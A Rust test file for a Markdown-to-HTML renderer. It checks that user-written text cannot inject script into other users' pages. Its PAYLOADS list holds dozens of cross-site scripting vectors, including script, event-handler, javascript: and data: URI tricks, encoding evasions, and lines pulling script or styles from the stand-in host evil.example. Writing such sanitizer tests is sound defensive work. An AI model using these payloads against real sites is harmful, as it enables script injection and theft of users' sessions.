use std::fmt::Write;

use super::*;
use crate::fuzzing::check;

#[test]
fn what_people_write_is_shown() {
    for (text, shown) in [
        (
            "One.\n\nTwo *is* **here**.",
            "<p>One.</p>\n<p>Two <em>is</em> <strong>here</strong>.</p>\n",
        ),
        ("a\nb", "<p>a<br>\nb</p>\n"),
        ("- a\n- b", "<ul><li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a\n4. b", "<ol start=\"3\"><li>a</li>\n<li>b</li>\n</ol>\n"),
        ("1. a", "<ol><li>a</li>\n</ol>\n"),
        ("> q", "<blockquote><p>q</p>\n</blockquote>\n"),
        ("`a<b`", "<p><code>a&lt;b</code></p>\n"),
        (
            "```rust\nlet a = \"<\";\n```",
            "<pre><code>let a = &quot;&lt;&quot;;\n</code></pre>\n",
        ),
        ("# Big", "<p><strong>Big</strong></p>\n"),
        (
            "[here](https://example.org/a?b=1&c=2 \"title\")",
            "<p><a rel=\"nofollow noopener noreferrer ugc\" href=\"https://example.org/a?b=1&amp;c=2\">here</a></p>\n",
        ),
        (
            "<https://example.org>",
            "<p><a rel=\"nofollow noopener noreferrer ugc\" href=\"https://example.org\">https://example.org</a></p>\n",
        ),
        (
            "[write](mailto:a@example.org)",
            "<p><a rel=\"nofollow noopener noreferrer ugc\" href=\"mailto:a@example.org\">write</a></p>\n",
        ),
        ("![a picture](https://example.org/a.png)", "<p>a picture</p>\n"),
        ("[in](/me)", "<p>in</p>\n"),
        ("2 < 3 & 5 > 4", "<p>2 &lt; 3 &amp; 5 &gt; 4</p>\n"),
        ("", ""),
    ] {
        assert_eq!(html(text), shown, "{text}");
    }
}

/// What has been used against pages that show what others write; each as it is, in a link, a picture, code and a list.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img/src='x'/onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<x onclick=alert(1)>x</x>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "</textarea><script>alert(1)</script>",
    "</li></ol><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert(1)",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "http:\\\\evil.example",
    "https://example.org/\" onmouseover=\"alert(1)",
    "https://example.org/' onmouseover='alert(1)",
    "https://example.org/><script>alert(1)</script>",
    "https://example.org/`onmouseover=alert(1)",
    "mailto:a@example.org\" onclick=\"alert(1)",
    "x\" style=\"animation-name:x\" onanimationstart=\"alert(1)",
    "\0<script\0>alert(1)</script\0>",
    "\u{202e}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
];

#[test]
fn nothing_that_somebody_writes_runs_in_the_page_of_another() {
    assert!(PAYLOADS.len() > 60);
    let mut shown = 0;
    for payload in PAYLOADS {
        for frame in [
            "@",
            "a @ b",
            "- @",
            "> @",
            "`@`",
            "```\n@\n```",
            "```@\nx\n```",
            "    @",
            "# @",
            "**@**",
            "[x](@)",
            "[x](<@>)",
            "[@](https://example.org)",
            "![@](@)",
            "![x](@ \"@\")",
            "[x](https://example.org \"@\")",
            "<@>",
            "[x]: @\n\n[x]",
            "[x][y]\n\n[y]: <@> '@'",
            "\\@",
            "@\n===",
            "| @ |\n|---|\n| @ |",
            "[^1]\n\n[^1]: @",
            "<div>\n@\n</div>",
            "https://example.org/@",
        ] {
            let text = frame.replace('@', payload);
            let made = html(&text);
            let checked = check(&made);
            assert_eq!(checked, Ok(()), "{text}\n{made}");
            shown += 1;
        }
    }
    assert!(shown > 60 * 20);
}

#[test]
fn the_check_finds_what_must_not_be() {
    for bad in [
        "<script>",
        "<p onclick=x>",
        "<img src=x>",
        "<a href=\"https://x\">",
        "a > b",
        "\"",
        "<a rel=\"nofollow noopener noreferrer ugc\" href=\"javascript:x\">",
        "<a rel=\"nofollow noopener noreferrer ugc\" href=\"https://x\" onclick=\"x\">",
        "<p",
    ] {
        assert!(check(bad).is_err(), "{bad}");
    }
}

#[test]
fn what_was_begun_is_ended_however_deep_it_is() {
    let deep = "> ".repeat(400) + "x " + &"*a **b ".repeat(300);
    for text in [
        deep,
        "- ".repeat(300) + "x",
        "[".repeat(2_000),
        "`".repeat(3_000) + "x",
        "*_".repeat(1_500),
    ] {
        let made = html(&text);
        assert_eq!(check(&made), Ok(()));
        for tag in ["p", "em", "strong", "ul", "li", "code", "pre", "blockquote", "a"] {
            let begun = made.matches(&format!("<{tag}>")).count() + made.matches(&format!("<{tag} ")).count();
            assert_eq!(begun, made.matches(&format!("</{tag}>")).count(), "{tag}");
        }
        assert!(made.matches("<blockquote>").count() <= DEEPEST);
    }
}

proptest::proptest! {
    #[test]
    fn no_text_at_all_leaves_the_few_tags(text in "([\\[\\]()<>!*_`#>\"'&;:/\\\\ \n\t=-]|javascript:|https://|onload=|script|\\PC){0,120}") {
        let made = html(&text);
        let mut told = String::new();
        write!(told, "{text:?} {made}").unwrap();
        proptest::prop_assert_eq!(check(&made), Ok(()), "{}", told);
    }
}
